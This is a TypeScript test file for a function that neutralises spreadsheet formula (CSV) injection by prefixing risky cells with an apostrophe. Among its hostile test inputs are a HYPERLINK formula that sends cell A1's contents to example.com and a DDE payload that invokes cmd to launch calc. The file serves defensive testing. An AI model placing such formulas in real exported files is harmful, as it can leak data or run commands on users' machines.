import assert from "node:assert/strict";
import { test } from "node:test";
import { defused } from "./formulas.ts";

test("a cell that a spreadsheet would run gets an apostrophe in front", () => {
  const hostile = [
    "=1+1",
    '=HYPERLINK("http://example.com?x="&A1)',
    "+SUM(A1:A9)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\u0001=1",
    "-A1",
    "+1+A1",
    "-",
    "+e5",
  ];
  for (const cell of hostile) assert.equal(defused(cell), `'${cell}`);
});

test("numbers and phone numbers are never changed", () => {
  const harmless = [
    "-5",
    "+3.2e4",
    "-1,234.56",
    "-.5",
    "+49 170 123",
    "+1 (555) 123-4567",
    "+49/170/123456",
    "-12%",
    "+41\u00a079\u00a0123",
    "- 5",
  ];
  for (const cell of harmless) assert.equal(defused(cell), cell);
});

test("any other cell is never changed", () => {
  for (const cell of ["", "Ada", "a=b", " =1", "'=1", "1-2", "0049", "ada@example.com"])
    assert.equal(defused(cell), cell);
});
